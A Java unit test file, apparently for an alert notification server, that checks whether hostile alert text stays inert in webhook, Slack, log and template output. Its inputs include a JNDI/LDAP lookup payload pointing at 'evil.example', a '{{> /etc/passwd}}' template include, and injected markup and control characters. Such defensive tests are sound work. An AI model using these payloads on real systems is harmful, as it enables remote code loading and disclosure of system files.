package dev.kikori.server.notify.sink;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import ch.qos.logback.classic.Logger;
import ch.qos.logback.classic.spi.ILoggingEvent;
import ch.qos.logback.core.read.ListAppender;
import dev.kikori.server.alert.AlertRecord;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.time.Instant;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.EnumSource;
import org.slf4j.LoggerFactory;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.json.JsonMapper;

/** What anybody may write into a log, through every way out. */
final class HostileTextTest {
  private static final JsonMapper JSON = new JsonMapper();
  private static final Attempt ATTEMPT = new Attempt("msg_1", Instant.EPOCH);

  @TempDir Path folder;

  @ParameterizedTest
  @EnumSource(WebhookConfig.Format.class)
  void webhook_hostileText_staysText(WebhookConfig.Format format) throws Exception {
    try (Receiver receiver = new Receiver();
        Sinks sinks = new Sinks("/x", name -> null)) {
      Sink sink =
          sinks.webhook(
              new WebhookConfig(
                  receiver.url("/"),
                  null,
                  null,
                  format,
                  null,
                  null,
                  null,
                  null,
                  "{{worst.headline}}",
                  "{{#each worst.critical}}{{this}}\n{{/each}}",
                  loopback()));
      assertThat(sink.send(hostile(), ATTEMPT)).isEqualTo(new Outcome.Delivered());
      JsonNode body = JSON.readTree(receiver.last().body());
      String lines = body.findValue("text").asString();
      Samples.HOSTILE.forEach(line -> assertThat(lines).contains(whole(line)));
      assertThat(body.findValue("status").asString()).isEqualTo("firing");
      assertThat(receiver.last().header("webhook-id")).isEqualTo("msg_1");
    }
  }

  @Test
  void slack_hostileText_hasNoMarkupOfItsOwn() throws Exception {
    try (Receiver receiver = new Receiver();
        Sinks sinks = new Sinks("/x", name -> null)) {
      Path url = Files.writeString(folder.resolve("url"), receiver.url("/services/x"));
      Sink sink =
          sinks.slack(
              new SlackConfig(
                  url,
                  null,
                  null,
                  "{{{worst.headline}}}",
                  "{{#each worst.critical}}{{{this}}}\n{{/each}}",
                  loopback()));
      assertThat(sink.send(hostile(), ATTEMPT)).isEqualTo(new Outcome.Delivered());
      JsonNode body = JSON.readTree(receiver.last().body());
      String text = body.get("blocks").get(1).get("text").get("text").asString();
      assertThat(text).doesNotContain("<!channel>", "<@U123>", "<script>", "<https", "`", "\u001b");
      assertThat(text).contains("&lt;!channel&gt;", "{{alerts}}", "${jndi:ldap");
    }
  }

  @Test
  void log_hostileText_isOneLineWithoutControls_andNeverAFormat() {
    Logger logger = (Logger) LoggerFactory.getLogger(LogSink.LOGGER);
    ListAppender<ILoggingEvent> lines = new ListAppender<>();
    lines.start();
    logger.addAppender(lines);
    logger.setAdditive(false);
    try (Sinks sinks = new Sinks("/x", name -> null)) {
      sinks.log(LogConfig.DEFAULTS).send(hostile(), ATTEMPT);
    } finally {
      logger.detachAppender(lines);
      logger.setAdditive(true);
    }
    assertThat(lines.list).hasSize(1);
    String line = lines.list.get(0).getFormattedMessage();
    assertThat(line.chars().noneMatch(c -> c < 0x20 || c == 0x7f || c == 0x202e)).isTrue();
    assertThat(line)
        .contains("{{alerts}}", "%s %n %x {} ${jndi:ldap://evil.example/a}", "red gone");
    assertThat(line).doesNotContain("[31m", "title");
  }

  @Test
  void template_reachesNoClassFileOrOtherTemplate() {
    for (String source :
        List.of(
            "{{> /etc/passwd}}",
            "{{include 'x'}}",
            "{{precompile 'x'}}",
            "{{i18n 'x'}}",
            "{{log worst}}x{{embedded 'x'}}",
            "{{#each alerts}}",
            "{{nosuch 'x'}}")) {
      assertThatThrownBy(() -> TextTemplate.compile("text", source, value -> value))
          .as(source)
          .isInstanceOf(IllegalArgumentException.class)
          .hasMessageStartingWith("text: ");
    }
    TextTemplate template =
        TextTemplate.compile(
            "text",
            "[{{worst.class}}{{worst.class.name}}{{alerts.class}}{{worst.getClass}}]",
            v -> v);
    assertThat(template.render(hostile(), 100)).isEqualTo("[]");
  }

  @Test
  void template_output_isBoundedInLengthAndTime() {
    String loop = "{{#each alerts}}";
    String end = "{{/each}}";
    TextTemplate wide =
        TextTemplate.compile("text", loop + "{{#each critical}}{{this}}{{/each}}" + end, v -> v);
    assertThat(wide.render(hostile(), 50).codePointCount(0, wide.render(hostile(), 50).length()))
        .isEqualTo(50);
    String deep = "{{#each ../alerts}}".repeat(10);
    TextTemplate endless =
        TextTemplate.compile("text", loop + deep + "{{this.nothing}}" + end.repeat(11), v -> v);
    AlertView one = hostile().alerts().get(0);
    Notification many =
        new Notification(
            "ops",
            "k",
            Notification.Reason.FIRST,
            Instant.EPOCH,
            Map.of(),
            "",
            0,
            java.util.Collections.nCopies(100, one));
    assertThatThrownBy(() -> endless.render(many, 100)).hasMessageContaining("longer than 2 s");
  }

  private static Notification hostile() {
    AlertRecord alert =
        Samples.alert(
            "a", 1, AlertRecord.Status.FIRING, "shop", "critical", Samples.START, Samples.HOSTILE);
    return Samples.notification(alert);
  }

  /** Half characters can't be written in any encoding. */
  private static String whole(String text) {
    return text.replace("\uD83D here", "\uFFFD here").replace("\uDC00 there", "\uFFFD there");
  }

  private static HttpConfig loopback() {
    return new HttpConfig(
        null, null, null, null, List.of("127.0.0.0/8"), null, Duration.ofMinutes(1));
  }
}
